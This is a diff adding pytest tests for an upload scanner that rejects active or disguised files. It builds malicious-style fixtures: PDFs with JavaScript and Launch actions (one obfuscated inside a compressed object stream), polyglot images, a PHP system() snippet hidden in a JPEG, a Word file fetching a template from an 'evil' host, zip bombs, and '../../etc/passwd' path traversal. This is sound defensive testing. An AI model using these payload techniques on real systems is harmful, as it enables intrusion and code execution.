@@ -5,6 +5,8 @@ from __future__ import annotations
 import hashlib
 import io
 import zipfile
+import zlib
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
@@ -12,6 +14,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import Workbook
 from pypdf import PdfWriter
+from pypdf.generic import DictionaryObject, NameObject
 
 from app.files.content import inspect
 from app.files.kinds import Accepted, Fault, FileType, Limits, Rejected
@@ -119,6 +122,112 @@ def test_what_is_not_sound_is_refused_with_its_reason(
     assert answer.fault is fault
     assert word in answer.reason.zh
     assert answer.reason.en
+
+
+def _acting_pdf(write: Callable[[PdfWriter], object]) -> bytes:
+    writer, out = PdfWriter(), io.BytesIO()
+    writer.add_blank_page(595, 842)
+    write(writer)
+    writer.write(out)
+    return out.getvalue()
+
+
+def _with_action(kind: str) -> bytes:
+    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
+    return _acting_pdf(lambda w: w.root_object.update({NameObject("/OpenAction"): action}))
+
+
+def _with_packed_object(content: bytes) -> bytes:
+    """A PDF one of whose objects is compressed into an object stream (PDF 1.5)."""
+    inside = b"1 0 " + content
+    packed = zlib.compress(inside)
+    out = bytearray(b"%PDF-1.5\n")
+    places = {}
+    for number, body in {
+        2: b"<</Type/Catalog/Pages 3 0 R/OpenAction 1 0 R>>",
+        3: b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
+        4: b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]>>",
+        5: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream"
+        % (len(packed), packed),
+    }.items():
+        places[number] = len(out)
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    rows = [b"\0" * 4, b"\2\0\5\0"]
+    rows += [b"\1" + places[n].to_bytes(2, "big") + b"\0" for n in range(2, 6)]
+    rows.append(b"\1" + len(out).to_bytes(2, "big") + b"\0")
+    table = b"".join(rows)
+    start = len(out)
+    out += b"6 0 obj\n<</Type/XRef/Size 7/W[1 2 1]/Root 2 0 R/Length %d>>stream\n" % len(table)
+    return bytes(out + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start)
+
+
+def _template_from_outside() -> dict[str, bytes]:
+    relation = (
+        b'<Relationships><Relationship Id="r" Type="http://x/relationships/attachedTemplate" '
+        b'Target="http://evil.example.org/t.dotm" TargetMode="External"/></Relationships>'
+    )
+    return {"word/_rels/settings.xml.rels": relation}
+
+
+MACRO_WORD = _word(more={"word/vbaProject.bin": b"x"})
+SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
+
+
+@pytest.mark.parametrize(
+    ("content", "name", "fault"),
+    [
+        (_with_action("/JavaScript"), "js.pdf", Fault.ACTIVE),
+        (_with_action("/Launch"), "launch.pdf", Fault.ACTIVE),
+        (_with_action("/SubmitForm"), "submit.pdf", Fault.ACTIVE),
+        (_with_packed_object(b"<</S/JavaScript/JS(a)>>"), "packed.pdf", Fault.ACTIVE),
+        (_with_packed_object(b"<</S/J#61vaScript/JS(a)>>"), "spelled.pdf", Fault.ACTIVE),
+        (_acting_pdf(lambda w: w.add_attachment("a.exe", b"MZ")), "carrier.pdf", Fault.ACTIVE),
+        (PNG + b"PK\x03\x04", "more.png", Fault.DISGUISED),
+        (PNG + _zip({"a": b"x"}), "polyglot.png", Fault.DISGUISED),
+        (JPEG + _zip({"a": b"x"}) + b"\xff\xd9", "polyglot.jpg", Fault.DISGUISED),
+        (JPEG[:-2] + b"<?PHP system(1) ?>\xff\xd9", "script.jpg", Fault.DISGUISED),
+        (JPEG[:20] + b"%PDF-1.7" + JPEG[20:], "two.jpg", Fault.DISGUISED),
+        (PNG[:16] + b"\0\0\xff\xff" * 2 + PNG[24:], "huge.png", Fault.TOO_LARGE),
+        (SVG, "picture.svg", Fault.UNKNOWN_TYPE),
+        (SVG, "picture.png", Fault.UNKNOWN_TYPE),
+        (_word(more={"word/activeX/activeX1.bin": b"x"}), "activex.docx", Fault.ACTIVE),
+        (_word(more={"word/embeddings/oleObject1.bin": b"x"}), "ole.docx", Fault.ACTIVE),
+        (_word(more={"xl/macrosheets/sheet1.xml": b"x"}), "xlm.docx", Fault.MACROS),
+        (_word(more=_template_from_outside()), "template.docx", Fault.ACTIVE),
+        (_zip({"a.txt": bytes(40 * MB)}), "bomb.zip", Fault.TOO_LARGE),
+        (_word(more={"word/a.xml": bytes(40 * MB)}), "bomb.docx", Fault.TOO_LARGE),
+        (_zip({f"{n}": b"" for n in range(2001)}), "many.zip", Fault.TOO_LARGE),
+        (_zip({"inner.zip": _zip({"a": b"x"})}), "nested.zip", Fault.DISGUISED),
+        (_zip({"harmless.txt": _zip({"a": b"x"})}), "renamed.zip", Fault.DISGUISED),
+        (_zip({"inner.rar": b"Rar!"}), "rar.zip", Fault.DISGUISED),
+        (_zip({"宏.docx": MACRO_WORD}), "macro.zip", Fault.MACROS),
+        (_zip({"run.exe": b"x"}), "program.zip", Fault.ACTIVE),
+        (_zip({"photo.jpg": b"MZ\x90"}), "renamed-program.zip", Fault.ACTIVE),
+        (_zip({"../../etc/passwd": b"x"}), "out.zip", Fault.DISGUISED),
+        (_zip({"C:\\x.txt": b"x"}), "drive.zip", Fault.DISGUISED),
+    ],
+    ids=lambda value: value if isinstance(value, str) and "." in value else "",
+)
+def test_what_would_run_or_hide_something_is_refused(
+    content: bytes, name: str, fault: Fault
+) -> None:
+    answer = inspect(content, name, LIMITS)
+    assert isinstance(answer, Rejected)
+    assert answer.fault is fault, answer.reason.zh
+
+
+@pytest.mark.parametrize(
+    ("content", "name"),
+    [
+        (_acting_pdf(lambda w: w.add_attachment("payload.json", b"{}")), "公文.pdf"),
+        (_with_packed_object(b"<</S/URI/URI(https://example.org)>>"), "压缩.pdf"),
+        (_zip({"材料/申报书.docx": _word(), "图.png": PNG}), "材料.zip"),
+        (_zip({"数据.csv": b"1,2\n" * 100_000}), "数据.zip"),
+    ],
+    ids=lambda value: value if isinstance(value, str) else "",
+)
+def test_what_only_looks_unusual_is_taken(content: bytes, name: str) -> None:
+    assert isinstance(inspect(content, name, LIMITS), Accepted)
 
 
 def test_a_field_takes_only_the_types_it_names() -> None:
